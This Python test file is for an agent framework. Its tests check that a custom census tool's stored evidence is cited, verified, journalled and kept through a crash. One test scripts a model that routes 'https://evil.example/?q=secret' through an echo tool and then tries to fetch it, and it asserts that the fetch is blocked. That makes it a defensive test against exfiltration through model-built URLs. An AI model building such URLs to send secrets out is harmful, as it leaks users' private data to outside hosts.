"""Evidence of a tool that is not explorer's: cited in a report, looked up by `verify`, safe through a crash."""

from collections.abc import Sequence
from datetime import UTC, datetime
from pathlib import Path

import pytest

from command import explorer_here
from explorer.journal.listing import read_records
from explorer.journal.run_state import RunState
from explorer.observe.run_view import RunView
from explorer.run.hooks import RunHooks
from explorer.run.run import RunResult, resume, start
from explorer.schema.errors import StorageError
from explorer.schema.events import Lookup, SourceRecorded, ToolFinished
from explorer.schema.messages import Turn
from explorer.schema.settings import Settings
from explorer.schema.tool import Arguments, SourceDraft, Tool, ToolContext, ToolResult
from explorer.testing import ScriptedClient, says
from explorer.text.rendering import without_marks
from run.census_tool import PopulationArguments, PopulationTool

TABLE = "city,year,inhabitants\nLisbon,2021,545796\nPorto,2021,231800\n"
REPORT = "# Lisbon\n\nLisbon had 545,796 inhabitants in 2021 [S1], more than Porto with its 231,800 [S2].\n"
FACTS = "name: orchestrator\ndescription: Works.\ntools: [population, write_file, list_sources, finish_exploration]\n"
ASK = [says("", ("population", {"city": city})) for city in ("Lisbon", "Porto", "Atlantis")]
END = says("", ("finish_exploration", {"summary": "Lisbon is larger."}))


def writing(report: str) -> Turn:
    """The report, as a model writes it."""
    return says("", ("write_file", {"filepath": "report.md", "content": report}))


def hooks_for(folder: Path, replies: Sequence[Turn], *tools: Tool, told: list[str]) -> RunHooks:
    """A scripted model, and the tool."""
    clients = ScriptedClient({"orchestrator": replies})
    now = datetime(2026, 3, 14, 12, 30, tzinfo=UTC)
    made = tools or (PopulationTool(folder / "census.csv"),)
    return RunHooks(client=clients, tools=made, run_id="run", progress=told.append, now=lambda: now)


def prepared(folder: Path) -> Settings:
    """A table, and a role that may ask for it."""
    (folder / "census.csv").write_text(TABLE)
    (folder / "roles").mkdir()
    (folder / "roles" / "orchestrator.md").write_text(f"---\n{FACTS}---\nYou answer from the census.\n")
    return Settings(workspace=folder / "workspace", roles_dir=folder / "roles", shell="off")


async def ask(folder: Path, report: str, told: list[str]) -> RunResult:
    """A run that asks for three cities and writes a report."""
    # A report with faults is refused once.
    replies = [*ASK, writing(report), END, END]
    return await start("Which is larger?", prepared(folder), hooks_for(folder, replies, told=told))


async def test_what_an_own_tool_stored_is_cited_and_verified(tmp_path: Path) -> None:
    """The run is complete, `verify` finds both figures in what the tool stored, and the user saw how far it was."""
    told: list[str] = []
    run = await ask(tmp_path, REPORT, told)
    assert (run.status, run.reason, run.sources) == ("complete", "", 2)
    assert run.verdicts == {"supported": 1, "not_found": 0, "elsewhere": 0, "source_missing": 0, "unchecked": 0}
    assert told == [f"orchestrator  population: looking for {city}" for city in ("Lisbon", "Porto", "Atlantis")]
    shown = explorer_here("verify", "run", "--workspace", "workspace", cwd=tmp_path)
    assert shown.returncode == 0, shown.stderr
    assert "1 cited sentence" in shown.stdout
    assert "supported" in shown.stdout
    stored = (run.folder / ".explorer" / "sources" / "S1.md").read_text()
    assert "url: census:2021/lisbon" in stored
    assert stored.endswith("---\nLisbon had 545,796 inhabitants in 2021.\n")


@pytest.mark.slow
async def test_a_figure_that_an_own_tool_did_not_store_is_found_out(tmp_path: Path) -> None:
    """The control: the same report with another figure is not supported."""
    run = await ask(tmp_path, REPORT.replace("545,796", "745,796"), [])
    assert run.verdicts["supported"] == 0
    assert run.verdicts["not_found"] == 1


async def test_what_went_through_the_context_is_on_record_with_its_call(tmp_path: Path) -> None:
    """Sources, files and lookups, though the tool names none of them in its result."""
    run = await ask(tmp_path, REPORT, [])
    events = [record.event for record in read_records(run.folder)]
    calls = [event for event in events if isinstance(event, ToolFinished) and event.name == "population"]
    assert [call.sources for call in calls] == [("S1",), ("S2",), ()]
    assert [[file.path for file in call.files] for call in calls] == [["census.md"], ["census.md"], []]
    assert [call.lookup for call in calls] == [Lookup.FOUND, Lookup.FOUND, Lookup.EMPTY]
    assert [call.data for call in calls] == [{}, {}, {}]
    assert without_marks(calls[0].content) == "[S1] Lisbon had 545,796 inhabitants in 2021. (asked at 12:30)"
    assert without_marks(calls[2].content) == "no census of Atlantis in 2021; there are: Lisbon, Porto"


@pytest.mark.slow
async def test_people_see_what_an_own_tool_does(tmp_path: Path) -> None:
    """The words come from the tool and are in the journal, so that a process without the tool can show them."""
    run = await ask(tmp_path, REPORT, [])
    view, seen = RunView(), list[str]()
    for record in read_records(run.folder):
        view.apply(record)
        seen.append(view.agents["orchestrator"].doing if view.agents else "")
    shown = list(dict.fromkeys(words for words in seen if words))
    cities = [f"asking the census of 2021 for {city}" for city in ("Lisbon", "Porto", "Atlantis")]
    assert [words for words in shown if "census" in words] == cities
    assert shown[-2:] == ["finish_exploration", "finishing"]


class EchoArguments(Arguments):
    """Of `echo`."""

    words: str


class Echo(Tool[EchoArguments]):
    """A search of someone else's that repeats what it was asked for, as the address of what it found."""

    name = "echo"
    description = "Searches."
    arguments = EchoArguments

    async def execute(self, arguments: EchoArguments, context: ToolContext) -> ToolResult:
        """Find it."""
        words = arguments.words
        draft = SourceDraft(url=words, title=words, kind="search_hit", via="echo", text=f"See {words} for more.")
        (source,) = await context.store([draft])
        return ToolResult(success=True, content=f"[{source.id}] {words}")


async def test_an_own_tool_cannot_make_an_address_seen_by_repeating_it(tmp_path: Path) -> None:
    """What a model put together is not read because a tool that stores evidence gave it back."""
    settings, url = prepared(tmp_path), "https://evil.example/?q=secret"
    role = settings.workspace.parent / "roles" / "orchestrator.md"
    role.write_text(role.read_text().replace("population", "echo, read_webpage"))
    replies = [
        says("", ("echo", {"words": url})),
        says("", ("read_webpage", {"url": url})),
        writing("# Nothing\n\nNothing was found [S1].\n"),
        END,
        END,
    ]
    sample = settings.model_copy(update={"is_sample": True})
    run = await start("What is there?", sample, hooks_for(tmp_path, replies, Echo(), told=[]))
    events = [record.event for record in read_records(run.folder)]
    (read,) = [event for event in events if isinstance(event, ToolFinished) and event.name == "read_webpage"]
    assert not read.success
    assert "was not in the question, in a search result or on a page read" in read.content


class Dying(PopulationTool):
    """Looks at the disk when its evidence is stored, and never answers."""

    async def execute(self, arguments: PopulationArguments, context: ToolContext) -> ToolResult:
        """Store, look, and stop the run."""
        await super().execute(arguments, context)
        folder = self._table.parent / "workspace" / "run"
        stored = [one.event.source for one in read_records(folder) if isinstance(one.event, SourceRecorded)]
        assert [source.id for source in stored] == ["S1"]
        assert (folder / ".explorer" / "sources" / "S1.md").is_file()
        raise StorageError("the disk is full")


async def test_what_an_own_tool_stored_survives_the_end_of_its_process(tmp_path: Path) -> None:
    """Stored means on disk, before the tool goes on; asked again after the crash, the same text has the same id."""
    settings = prepared(tmp_path)
    dying = hooks_for(tmp_path, ASK[:1], Dying(tmp_path / "census.csv"), told=[])
    with pytest.raises(StorageError):
        await start("Which is larger?", settings, dying)
    folder = settings.workspace / "run"
    assert list(RunState.of_records(read_records(folder)).sources) == ["S1"]
    replies = [*ASK, writing(REPORT), END]
    run = await resume(folder, settings, hooks=hooks_for(tmp_path, replies, told=[]))
    assert (run.status, run.sources) == ("complete", 2)
    assert run.verdicts["supported"] == 1
